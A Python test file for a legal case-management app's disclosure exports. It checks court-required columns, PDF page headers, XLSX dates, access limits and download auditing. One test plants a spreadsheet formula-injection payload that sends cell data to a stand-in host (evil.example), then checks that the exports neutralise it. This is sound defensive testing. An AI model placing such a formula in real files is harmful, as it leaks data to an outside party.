"""The exports, opened and read back: the columns each court expects, the title block, the
header on every page, real dates in the XLSX, formulas neutralised, clearance and audit."""

import csv
import io
import shutil
import subprocess
from datetime import date, datetime

import openpyxl
import pypdf
import pytest
from django.urls import reverse

from casemgr.access.models import AuditAction, AuditEvent
from casemgr.disclosure import services
from casemgr.disclosure.models import DisclosureEntry
from tests.factories import ExhibitFactory

pytestmark = pytest.mark.django_db

FRCP_LOG = [
    "Entry No.",
    "Date",
    "Author",
    "Recipients (to / cc)",
    "Document type",
    "Description of the nature of the document",
    "Privilege asserted",
    "Withheld in full or redacted",
    "Production No.",
]
PD57AD_WITHHELD = [
    "No.",
    "Date",
    "Description",
    "Document type",
    "Producing party / custodian",
    "Ground on which withheld",
    "Withheld in full or redacted",
    "Production numbers",
    "Issue for Disclosure",
]
PD57AD_DISCLOSED = [
    "No.",
    "Date",
    "Description",
    "Document type",
    "Producing party / custodian",
    "Date disclosed",
    "Production numbers",
    "Issue for Disclosure",
]


@pytest.fixture
def download(client):
    def get(user, proceeding, which, fmt, **query):
        client.force_login(user)
        url = reverse(
            "disclosure:export",
            kwargs={
                "matter_pk": proceeding.matter_id,
                "proceeding_pk": proceeding.pk,
                "which": which,
                "fmt": fmt,
            },
        )
        return client.get(url, query)

    return get


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM that tells Excel it is UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_table(content: bytes):
    """The list's sheet, and the row number of its header row (the one frozen under)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    header = int(sheet.freeze_panes.lstrip("A")) - 1
    return sheet, header


def pdf_text(content: bytes) -> list[str]:
    """Each page's text as pdftotext reads it, in the order it was written: cell by cell."""
    done = subprocess.run(
        [shutil.which("pdftotext"), "-raw", "-", "-"],
        input=content,
        capture_output=True,
        check=True,
    )
    return [" ".join(page.split()) for page in done.stdout.decode().split("\f")]


def test_the_us_privilege_log_has_the_columns_of_frcp_26b5a(disclosure, download):
    response = download(disclosure.world.partner, disclosure.us, "withheld", "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "Privilege log" in response["Content-Disposition"]
    header, *rows = csv_rows(response.content)
    assert header == FRCP_LOG
    assert rows[0] == [
        "1",
        "2026-01-20",
        "",
        "",
        "Report",
        "Memorandum prepared for the litigation",
        "Work-product protection",
        "Withheld in full",
        "",
    ]
    assert rows[1][:7] == [
        "2",
        "2026-02-03",
        "R. Hale (in-house counsel)",
        "To: CTO; cc: General Counsel",
        "E-mail",
        "E-mail from in-house counsel to the CTO giving legal advice",
        "Attorney-client privilege",
    ]


def test_the_english_list_has_the_columns_of_pd57ad(disclosure, download):
    withheld = csv_rows(
        download(disclosure.world.partner, disclosure.english, "withheld", "csv").content
    )
    assert withheld[0] == PD57AD_WITHHELD
    assert withheld[2][5] == "Legal advice privilege"
    assert withheld[2][8] == "Issue 2"
    disclosed = csv_rows(
        download(disclosure.world.partner, disclosure.english, "disclosed", "csv").content
    )
    assert disclosed[0] == PD57AD_DISCLOSED
    assert disclosed[1][:6] == [
        "1",
        "2026-01-12",
        "Letter before action",
        "Letter",
        "Northwind Intelligence Ltd",
        "2026-04-01",
    ]


def test_the_form_can_be_chosen(disclosure, download):
    response = download(
        disclosure.world.partner, disclosure.english, "withheld", "csv", form="frcp"
    )
    assert csv_rows(response.content)[0] == FRCP_LOG


def test_the_xlsx_has_a_bold_frozen_header_real_dates_and_widths(disclosure, download):
    response = download(disclosure.world.partner, disclosure.us, "withheld", "xlsx")
    assert response.status_code == 200
    sheet, header = xlsx_table(response.content)
    assert header == 1  # read as a table by a filter, a review tool, pandas
    assert sheet.title == "Privilege log"
    details = openpyxl.load_workbook(io.BytesIO(response.content))["Details"]
    facts = {row[0].value: row[1].value for row in details.iter_rows()}
    assert facts["Document"] == "Privilege log"
    assert facts["Case No."] == "3:26-cv-01234"
    assert facts["Party"] == "Northwind Intelligence Ltd"
    assert isinstance(facts["Date"], datetime)
    assert "3:26-cv-01234" in sheet.oddHeader.left.text
    cells = list(sheet.iter_rows(min_row=header, max_row=header))[0]
    assert [cell.value for cell in cells] == FRCP_LOG
    assert all(cell.font.bold for cell in cells)
    first = list(sheet.iter_rows(min_row=header + 1, max_row=header + 1))[0]
    assert first[0].value == 1
    assert isinstance(first[1].value, datetime)
    assert first[1].value.date() == date(2026, 1, 20)
    assert first[1].is_date
    assert sheet.column_dimensions["F"].width > sheet.column_dimensions["A"].width


def test_formulas_are_neutralised_in_csv_and_xlsx(disclosure, download):
    entry = DisclosureEntry.objects.get(proceeding=disclosure.us, exhibit=disclosure.advice)
    entry.description = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    entry.author = "@SUM(1+1)"
    entry.recipients = "+44 20 7946 0000"
    entry.save()
    rows = csv_rows(download(disclosure.world.partner, disclosure.us, "withheld", "csv").content)
    assert rows[2][2] == "'@SUM(1+1)"
    assert rows[2][3] == "'+44 20 7946 0000"
    assert rows[2][5] == "'" + entry.description
    sheet, header = xlsx_table(
        download(disclosure.world.partner, disclosure.us, "withheld", "xlsx").content
    )
    row = list(sheet.iter_rows(min_row=header + 2, max_row=header + 2))[0]
    assert row[5].value == "'" + entry.description
    assert row[5].data_type == "s"  # a string, not a formula
    assert row[2].value == "'@SUM(1+1)"


def test_the_pdf_is_landscape_with_the_title_block_and_rows(disclosure, download):
    response = download(disclosure.world.partner, disclosure.us, "withheld", "pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    page = pypdf.PdfReader(io.BytesIO(response.content)).pages[0]
    assert page.mediabox.width > page.mediabox.height
    text = " ".join(" ".join(pdf_text(response.content)).split())
    for expected in [
        "PRIVILEGE LOG",
        "NWA-0001",
        "Northwind v Jadeport",
        "Case No. 3:26-cv-01234",
        "Northern District of California",
        "Northwind Intelligence Ltd",  # our party: the world's claimant
        "Entry No.",
        "Privilege asserted",
        "Attorney-client privilege",
        "Work-product protection",
        "Page 1 of 1",
    ]:
        assert expected in text, expected


def test_the_pdf_repeats_the_header_on_every_page(disclosure, download):
    for number in range(10, 70):
        exhibit = ExhibitFactory(
            matter=disclosure.world.matter, prefix="NWA", number=number, title=f"Letter {number}"
        )
        services.entry_add(
            proceeding=disclosure.english,
            exhibit=exhibit,
            kind=DisclosureEntry.Kind.DISCLOSED,
            actor=disclosure.world.partner,
        )
    response = download(disclosure.world.partner, disclosure.english, "disclosed", "pdf")
    pages = [page for page in pdf_text(response.content) if page.strip()]
    assert len(pages) >= 2
    for number, page in enumerate(pages, 1):
        assert "Producing party / custodian" in page
        assert f"Page {number} of {len(pages)}" in page
    assert "Letter 69" in pages[-1]


def test_an_export_holds_only_what_the_reader_may_see(disclosure, download):
    for fmt in ("csv", "xlsx", "pdf"):
        response = download(disclosure.world.paralegal, disclosure.us, "withheld", fmt)
        assert response.status_code == 200
        assert b"Memorandum prepared" not in response.content
    rows = csv_rows(download(disclosure.world.paralegal, disclosure.us, "withheld", "csv").content)
    assert [row[0] for row in rows[1:]] == ["1"]
    text = " ".join(
        pdf_text(download(disclosure.world.paralegal, disclosure.us, "withheld", "pdf").content)
    )
    assert "Memorandum prepared" not in text
    assert "Attorney-client privilege" in text


def test_an_outsider_gets_404_and_each_download_is_audited(disclosure, download):
    response = download(disclosure.world.outsider, disclosure.us, "withheld", "csv")
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).exists()
    download(disclosure.world.paralegal, disclosure.us, "withheld", "xlsx")
    event = AuditEvent.objects.get(action=AuditAction.DOWNLOAD)
    assert event.actor == disclosure.world.paralegal
    assert event.matter == disclosure.world.matter
    assert event.detail["export"] == "Privilege log (XLSX)"
    assert event.detail["filename"].endswith(".xlsx")
